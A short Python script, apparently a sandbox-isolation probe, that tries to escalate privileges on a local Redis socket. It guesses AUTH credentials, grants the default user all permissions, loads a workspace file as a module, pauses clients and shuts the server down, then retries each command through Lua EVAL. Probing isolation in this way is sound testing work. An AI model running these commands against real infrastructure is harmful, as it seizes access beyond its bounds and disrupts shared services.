import redis

ADDRESS = "/run/redis/redis.sock"
TRIES = (
    ("AUTH", "suite", ""),
    ("AUTH", "suite", "suite"),
    ("HELLO", 3, "AUTH", "suite", "suite"),
    ("ACL", "SETUSER", "default", "+@all"),
    ("ACL", "GETUSER", "suite"),
    ("ACL", "LOG"),
    ("CONFIG", "GET", "*"),
    ("CONFIG", "SET", "unixsocketperm", "700"),
    ("DEBUG", "JMAP"),
    ("MODULE", "LOAD", "/learner/work/app.py"),
    ("MONITOR",),
    ("CLIENT", "LIST"),
    ("CLIENT", "NO-EVICT", "on"),
    ("CLIENT", "PAUSE", 60_000),
    ("MIGRATE", "127.0.0.1", 1, "k", 0, 1),
    ("RESTORE", "k", 0, "x"),
    ("SCRIPT", "DEBUG", "YES"),
    ("SHUTDOWN", "NOSAVE"),
    ("SLOWLOG", "GET"),
)
SCRIPT = "return redis.pcall(unpack(ARGV))"


def attempt(store, *command):
    try:
        store.execute_command(*command)
        return command
    except redis.RedisError:
        return None


def attack():
    store = redis.Redis(unix_socket_path=ADDRESS)
    scripted = [("EVAL", SCRIPT, 0, *map(str, command)) for command in TRIES]
    done = [found for command in (*TRIES, *scripted) if (found := attempt(store, *command))]
    print("tried:", len(TRIES) + len(scripted), "done:", done, flush=True)
    return "through" if done else "refused"
